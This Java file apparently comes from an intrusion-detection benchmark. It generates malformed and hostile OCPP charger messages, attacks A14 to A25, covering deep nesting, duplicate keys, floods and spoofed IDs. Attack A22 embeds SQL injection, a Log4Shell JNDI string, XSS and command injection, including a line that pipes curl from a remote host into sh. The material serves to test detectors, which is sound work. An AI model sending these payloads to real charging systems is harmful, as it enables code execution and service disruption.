// SPDX-License-Identifier: Apache-2.0
package io.ferrule.benchmarks.ids.unseen;

import static io.ferrule.benchmarks.ids.unseen.Moves.any;
import static io.ferrule.benchmarks.ids.unseen.Moves.old;
import static io.ferrule.benchmarks.ids.unseen.Moves.some;
import static io.ferrule.benchmarks.ids.unseen.Moves.state;
import static io.ferrule.benchmarks.ids.unseen.Moves.unevenly;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.ferrule.benchmarks.ids.attack.Attack;
import io.ferrule.benchmarks.ids.attack.Stage;
import io.ferrule.benchmarks.ids.simulation.Json;
import java.util.ArrayList;
import java.util.List;

/** A14 to A25: texts, and the order in which they come. */
final class MessageAttacks {

    private static final ObjectNode NOTHING =
            Json.object().putNull("connectorId").putNull("idTag").putNull("status");

    private MessageAttacks() {}

    static List<Attack> all() {
        List<Attack> all = new ArrayList<>(texts());
        all.addAll(contents());
        all.addAll(orders());
        return all;
    }

    /** A text that the 2.0.1 station sends. */
    private static void modern(Stage stage, String text) {
        stage.modern().channel().frame(true, text);
    }

    private static List<Attack> texts() {
        return List.of(
                new Attack("A14", "customData within customData", s -> {
                    int deep = some(s, 80, 400);
                    modern(
                            s,
                            "[2,\"" + s.id() + "\",\"Heartbeat\",{\"customData\":"
                                    + "{\"vendorId\":\"v\",\"c\":".repeat(deep) + "1" + "}".repeat(deep) + "}]");
                }),
                new Attack(
                        "A16",
                        "an end beyond every integer",
                        s -> s.raw("[2,\"" + s.id()
                                + "\",\"StopTransaction\",{\"transactionId\":1,\"meterStop\":"
                                + any(s, List.of("12345678901234567890123", "-99999999999999999999", "1e308"))
                                + ",\"timestamp\":\"" + s.time() + "\"}]")),
                new Attack(
                        "A18",
                        "two cards in one token",
                        s -> modern(
                                s,
                                "[2,\"" + s.id()
                                        + "\",\"Authorize\",{\"idToken\":{\"idToken\":\"04AA\",\"type\":\"ISO14443\","
                                        + "\"idToken\":\"04BB\"}}]")),
                new Attack("A18", "two numbers in the answer to a start", s -> {
                    String id = s.id();
                    s.raw(Json.call(id, "StartTransaction", Moves.start(s, 1, Moves.card(s), 1)));
                    s.rawCsms("[3,\"" + id + "\",{\"transactionId\":1,\"idTagInfo\":{\"status\":\"Accepted\"},"
                            + "\"transactionId\":" + some(s, 2, 9_000) + "}]");
                }),
                new Attack(
                        "A19",
                        "something behind the end",
                        s -> s.raw(Json.call(s.id(), "Heartbeat", Json.object())
                                + any(s, List.of("]", "x", "{}", "//", ",null")))),
                new Attack("A20", "a type with a decimal, a call of five", s -> {
                    s.raw("[2.5,\"" + s.id() + "\",\"Heartbeat\",{}]");
                    s.raw("[2,\"" + s.id() + "\",\"Heartbeat\",{},{}]");
                }),
                new Attack(
                        "A20",
                        "an error of two, to a 1.5 station",
                        s -> old(s, o -> o.frame(some(s, 0, 1) == 0, "[4,\"" + s.id() + "\"]"))));
    }

    private static List<Attack> contents() {
        return List.of(
                new Attack("A15", "a card of some thousand characters at 2.0.1", s -> s.modern()
                        .tell(
                                "Authorize",
                                Json.object(
                                        "idToken",
                                        Json.object("idToken", "4".repeat(some(s, 900, 6_000)), "type", "Central")))),
                new Attack(
                        "A15",
                        "a serial number without end on 1.5",
                        s -> old(
                                s,
                                o -> o.call(
                                        "BootNotification",
                                        Json.object(
                                                "chargePointVendor",
                                                "Hazel",
                                                "chargePointModel",
                                                "H1",
                                                "chargePointSerialNumber",
                                                "7".repeat(some(s, 300, 3_000)))))),
                new Attack("A17", "a list of eight thousand moments", s -> {
                    ArrayNode moments = Json.array();
                    for (int i = 0; i < 8_000; i++) {
                        moments.add(Json.object("timestamp", s.time(), "sampledValue", Json.array()));
                    }
                    s.says("MeterValues", Json.object("connectorId", 1, "meterValue", moments));
                }),
                new Attack(
                        "A19",
                        "nothing where something is due, on 1.5",
                        s -> old(
                                s,
                                o -> unevenly(
                                        s,
                                        3,
                                        9,
                                        8,
                                        i -> o.call(
                                                any(
                                                        s,
                                                        List.of(
                                                                "StatusNotification",
                                                                "StartTransaction",
                                                                "Authorize",
                                                                "MeterValues")),
                                                NOTHING)))),
                new Attack(
                        "A19",
                        "words of another case at 2.0.1",
                        s -> unevenly(s, 4, 15, 10, i -> s.modern()
                                .tell(
                                        "StatusNotification",
                                        Json.object(
                                                "timestamp",
                                                s.time(),
                                                "connectorStatus",
                                                any(s, List.of("occupied", "AVAILABLE", "faulted")),
                                                "evseId",
                                                1,
                                                "connectorId",
                                                1)))),
                new Attack(
                        "A21",
                        "a day that no calendar has",
                        s -> s.says(
                                "StatusNotification",
                                state(1, "Available")
                                        .put(
                                                "timestamp",
                                                any(
                                                        s,
                                                        List.of(
                                                                "2026-02-30T10:00:00Z",
                                                                "2026-01-07T25:61:00Z",
                                                                "20260107T100000Z+99:00",
                                                                "yesterday"))))),
                new Attack(
                        "A22",
                        "code in the words of a maker",
                        s -> s.says(
                                "StatusNotification",
                                state(1, "Faulted")
                                        .put(
                                                "vendorErrorCode",
                                                any(
                                                        s,
                                                        List.of(
                                                                "1 UNION SELECT pw FROM u",
                                                                "${jndi:rmi://a.b/c}",
                                                                "<svg/onload=alert(1)>",
                                                                "|curl 198.51.100.9|sh"))))),
                new Attack("A22", "code in a token of 2.0.1", s -> s.modern()
                        .tell(
                                "Authorize",
                                Json.object(
                                        "idToken",
                                        Json.object(
                                                "idToken",
                                                any(s, List.of("' OR 1=1 --", "$(reboot)", "\"><script>a()</script>")),
                                                "type",
                                                "ISO14443")))));
    }

    private static List<Attack> orders() {
        return List.of(
                new Attack(
                        "A23",
                        "answers under the ids of another station",
                        s -> unevenly(s, 20, 60, 6, i -> {
                            String id = s.id();
                            s.fleet().get(5).channel().frame(false, Json.call(id, "ClearCache", Json.object()));
                            s.raw(Json.result(id, Stage.ACCEPTED));
                            s.simulation()
                                    .honest(() -> s.later(1, () -> s.fleet()
                                            .get(5)
                                            .channel()
                                            .frame(true, Json.result(id, Stage.ACCEPTED))));
                        })),
                new Attack(
                        "A24",
                        "every question is answered by an error",
                        s -> unevenly(s, 0.3, 1, 70, i -> {
                            String id = s.id();
                            s.rawCsms(Json.call(id, "GetConfiguration", Json.object()));
                            s.raw(Json.array(4, id, "GenericError", "", Json.object())
                                    .toString());
                        })),
                new Attack(
                        "A25",
                        "heartbeats of a 1.5 station, a minute long",
                        s -> old(s, o -> s.every(0.04, 1_500, i -> o.blurt(s.id(), "Heartbeat", Json.object())))),
                new Attack(
                        "A25",
                        "states of 2.0.1 as fast as it can",
                        s -> s.every(0.016, 1_800, i -> s.modern()
                                .channel()
                                .blurt(s.id(), "StatusNotification", toggled(s, i)))));
    }

    private static ObjectNode toggled(Stage stage, int turn) {
        return Json.object(
                "timestamp",
                stage.time(),
                "connectorStatus",
                turn % 2 == 0 ? "Available" : "Occupied",
                "evseId",
                1,
                "connectorId",
                1);
    }
}
